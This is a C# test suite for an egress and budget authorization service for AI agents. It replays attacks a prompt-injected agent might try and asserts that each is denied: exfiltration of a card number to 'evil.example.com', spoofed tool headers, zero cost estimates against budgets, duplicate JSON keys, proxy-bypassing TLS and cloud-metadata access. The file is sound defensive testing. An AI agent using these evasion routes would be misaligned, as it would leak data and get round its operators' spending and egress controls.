using System.Text.Json;
using Aegis.Contracts.State;
using Aegis.Decision.Tests;
using Aegis.Decision.Protos.Envoy.Service.Auth.V3;
using Aegis.State;
using Aegis.TestSupport;
using Google.Protobuf;

namespace Aegis.Attacks;

/// <summary>
/// The attacks of the wire-decisions issue, each tried as a prompt-injected agent would, through the real decision
/// server over gRPC exactly as the sidecar sends ext_authz: every one must now fail, with its reason.
/// </summary>
public class WireAttacks
{
    private const string Yaml = """
        apiVersion: aegis.dev/v1alpha1
        kind: AgentPolicy
        metadata: { name: p, namespace: fin }
        spec:
          tenant: acme
          rules:
            - { name: balance, match: { tools: ["stripe.balance.get"] }, effect: allow }
            - { name: transfer, match: { tools: ["stripe.transfer"] }, when: "args.amount <= 100.0", effect: allow }
            - name: crm
              match: { tools: ["crm.*"], egress: { hosts: ["crm.example.com"] } }
              effect: sanitize
              redact: [ { detector: email } ]
            - { name: llm, match: { tools: ["openai.*"] }, effect: allow }
        ---
        apiVersion: aegis.dev/v1alpha1
        kind: AgentBudget
        metadata: { name: b, namespace: fin }
        spec: { tenant: acme, daily: "0.50" }
        ---
        apiVersion: aegis.dev/v1alpha1
        kind: ToolServer
        metadata: { name: stripe, namespace: fin }
        spec:
          tenant: acme
          protocol: mcp
          url: https://stripe.tools.test/mcp
          prices: [ { tools: ["stripe.*"], perCall: "0.20" } ]
        ---
        apiVersion: aegis.dev/v1alpha1
        kind: ToolServer
        metadata: { name: openai, namespace: fin }
        spec:
          tenant: acme
          protocol: openai
          url: https://api.openai.com/v1
          models: [ { match: "gpt-4o*", inputPer1M: "2.50", outputPer1M: "10.00" } ]
        """;

    private static CheckRequest Request(string token, string method, string host, string path, string body = "", IDictionary<string, string>? headers = null)
    {
        var http = new AttributeContext.Types.HttpRequest { Method = method, Host = host, Path = path, Scheme = "http", Protocol = "HTTP/1.1", RawBody = ByteString.CopyFromUtf8(body) };
        http.Headers["authorization"] = "Bearer " + token;
        foreach (var (k, v) in headers ?? new Dictionary<string, string>())
        {
            http.Headers[k] = v;
        }

        return new CheckRequest { Attributes = new AttributeContext { Request = new AttributeContext.Types.Request { Http = http } } };
    }

    [Fact]
    public async Task ToolHeaderOnEgressToAnyHost_IsNoToolCall_DeniedByDefault()
    {
        await using var f = await ServerFixture.StartAsync(Yaml);

        var response = await f.Client.CheckAsync(Request(await f.TokenAsync(), "POST", "evil.example.com", "/exfil", """{"card":"4111111111111111"}""",
            new Dictionary<string, string> { ["x-aegis-tool"] = "stripe.balance.get" }));

        Assert.Equal(7, response.Status.Code);
        Assert.Equal("default_effect", response.Status.Message);
    }

    [Fact]
    public async Task ToolHeaderOnAToolServerCall_TheBodysToolDecides()
    {
        await using var f = await ServerFixture.StartAsync(Yaml);

        // The header names an allowed tool; the body calls a transfer over the limit.
        var response = await f.Client.CheckAsync(Request(await f.TokenAsync(), "POST", "stripe.tools.test", "/mcp", WireCalls.ToolsCall("transfer", """{"amount": 9000}"""),
            new Dictionary<string, string> { ["x-aegis-tool"] = "stripe.balance.get" }));

        Assert.Equal("default_effect", response.Status.Message);
    }

    [Fact]
    public async Task CostEstimateOfZero_DoesNotSkipThePriceOrTheReservation()
    {
        var budgets = new InMemoryBudgetStore();
        await using var f = await ServerFixture.StartAsync(Yaml, state: new DecisionState(budgets, new InMemoryRateLimiter(), new InMemoryTokenIdStore()));
        var token = await f.TokenAsync();
        var free = new Dictionary<string, string> { ["x-aegis-cost-estimate"] = "0.00" };

        // 0.20 a call against 0.50 a day: the third call is over, whatever the agent says it costs.
        var results = new List<CheckResponse>();
        for (var i = 0; i < 3; i++)
        {
            results.Add(await f.Client.CheckAsync(Request(token, "POST", "stripe.tools.test", "/mcp", WireCalls.ToolsCall("balance.get"), free)));
        }

        Assert.Equal(["", "", "budget_exhausted"], results.Select(r => r.Status.Message));
        Assert.Equal(0.40m, (await budgets.GetSpendAsync("acme", "payments-bot", TimeZoneInfo.Utc, DateTimeOffset.UtcNow)).Today);
    }

    [Fact]
    public async Task SpendReportWithTheAgentsOwnToken_RefusedAndSpendUnchanged()
    {
        var budgets = new InMemoryBudgetStore();
        await using var f = await ServerFixture.StartAsync(Yaml, state: new DecisionState(budgets, new InMemoryRateLimiter(), new InMemoryTokenIdStore()));
        var token = await f.TokenAsync();
        await f.Client.CheckAsync(Request(token, "POST", "stripe.tools.test", "/mcp", WireCalls.ToolsCall("balance.get")));

        using var spend = new HttpRequestMessage(HttpMethod.Post, "/v1/spend") { Content = new StringContent("""{"reserved":"20.00","actual":"0.00"}""") };
        spend.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", token);
        using var answer = await f.Http.SendAsync(spend);

        Assert.False(answer.IsSuccessStatusCode);
        Assert.Equal(0.20m, (await budgets.GetSpendAsync("acme", "payments-bot", TimeZoneInfo.Utc, DateTimeOffset.UtcNow)).Today);
    }

    [Theory]
    [InlineData("crm.example.com:443", "tunnel_requires_inspection")]
    [InlineData("stripe.tools.test:443", "tool_server_requires_inspection")]
    [InlineData("api.openai.com:443", "tool_server_requires_inspection")]
    public async Task ConnectToASanitizedHostOrAToolServer_RefusedNotAllowedBlind(string authority, string reason)
    {
        await using var f = await ServerFixture.StartAsync(Yaml);

        var response = await f.Client.CheckAsync(Request(await f.TokenAsync(), "CONNECT", authority, ""));

        Assert.Equal(7, response.Status.Code);
        Assert.Equal(reason, response.Status.Message);
    }

    [Fact]
    public async Task DuplicateArgumentNames_RefusedBeforeAnyRuleReadsThem()
    {
        await using var f = await ServerFixture.StartAsync(Yaml);
        var body = """{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"transfer","arguments":{"amount":1,"amount":99999}}}""";

        var response = await f.Client.CheckAsync(Request(await f.TokenAsync(), "POST", "stripe.tools.test", "/mcp", body));

        Assert.Equal("mcp_not_jsonrpc", response.Status.Message);
    }

    [Fact]
    public async Task McpNameHeaderNamingAnotherTool_Refused()
    {
        await using var f = await ServerFixture.StartAsync(Yaml);

        var response = await f.Client.CheckAsync(Request(await f.TokenAsync(), "POST", "stripe.tools.test", "/mcp", WireCalls.ToolsCall("balance.get"),
            new Dictionary<string, string> { ["mcp-name"] = "transfer" }));

        Assert.Equal("mcp_header_mismatch", response.Status.Message);
    }

    [Theory]
    [InlineData("o1-pro", 403, "permission_error", "model_not_priced")]
    [InlineData("gpt-4o", 429, "insufficient_quota", "insufficient_quota")]
    public async Task LlmCallRefused_AnsweredInTheProvidersErrorFormat(string model, int status, string type, string code)
    {
        await using var f = await ServerFixture.StartAsync(Yaml);

        // 100,000 output tokens of gpt-4o reserve 1.00, past the 0.50 day; o1-pro has no price at all.
        var response = await f.Client.CheckAsync(Request(await f.TokenAsync(), "POST", "api.openai.com", "/v1/chat/completions",
            $$"""{"model":"{{model}}","messages":[{"role":"user","content":"hi"}],"max_tokens":100000}"""));

        Assert.Equal(status, (int)response.DeniedResponse.Status.Code);
        using var body = JsonDocument.Parse(response.DeniedResponse.Body);
        var error = body.RootElement.GetProperty("error");
        Assert.Equal(type, error.GetProperty("type").GetString());
        Assert.Equal(code, error.GetProperty("code").GetString());
        Assert.Contains("Aegis", error.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    private static CheckRequest Tls(string? sni, uint port = 443) => new()
    {
        Attributes = new AttributeContext
        {
            Destination = new AttributeContext.Types.Peer
            {
                Address = new Aegis.Decision.Protos.Envoy.Config.Core.V3.Address { SocketAddress = new Aegis.Decision.Protos.Envoy.Config.Core.V3.SocketAddress { Address = "198.51.100.7", PortValue = port } },
                Service = sni ?? "",
            },
            TlsSession = new AttributeContext.Types.TLSSession { Sni = sni ?? "" },
        },
    };

    private static Grpc.Core.Metadata Pod => new() { { "x-aegis-tenant", "acme" }, { "x-aegis-agent-id", "payments-bot" } };

    [Theory]
    [InlineData("stripe.tools.test", "tool_server_requires_inspection")]
    [InlineData("crm.example.com", "tunnel_requires_inspection")]
    [InlineData("elsewhere.example.com", "default_effect")]
    public async Task TlsAroundTheProxy_DecidedOnItsSniForThePodAndRefusedWhereInspectionIsNeeded(string sni, string reason)
    {
        // A client that ignores HTTP_PROXY opens TLS straight to the host: the transparent listener asks on the SNI.
        await using var f = await ServerFixture.StartAsync(Yaml);

        var response = await f.Client.CheckAsync(Tls(sni), Pod);

        Assert.Equal(7, response.Status.Code);
        Assert.Equal(reason, response.Status.Message);
    }

    [Fact]
    public async Task TlsWithoutSni_RefusedAsMalformed()
    {
        await using var f = await ServerFixture.StartAsync(Yaml.Replace("rules:", "defaultEffect: allow\n  rules:", StringComparison.Ordinal));

        var response = await f.Client.CheckAsync(Tls(null), Pod);

        Assert.Equal("request_malformed", response.Status.Message);
    }

    [Fact]
    public async Task TlsToAnAllowedHost_AllowedForThePodWithoutAToken()
    {
        await using var f = await ServerFixture.StartAsync(Yaml.Replace("rules:", "defaultEffect: allow\n  rules:", StringComparison.Ordinal));

        var allowed = await f.Client.CheckAsync(Tls("elsewhere.example.com"), Pod);
        var metadata = await f.Client.CheckAsync(Tls("169.254.169.254", 80), Pod);
        var unknownPod = await f.Client.CheckAsync(Tls("elsewhere.example.com"));

        Assert.Equal(0, allowed.Status.Code);
        Assert.Equal("egress_host_reserved", metadata.Status.Message);
        Assert.Equal("token_missing", unknownPod.Status.Message);
    }
}
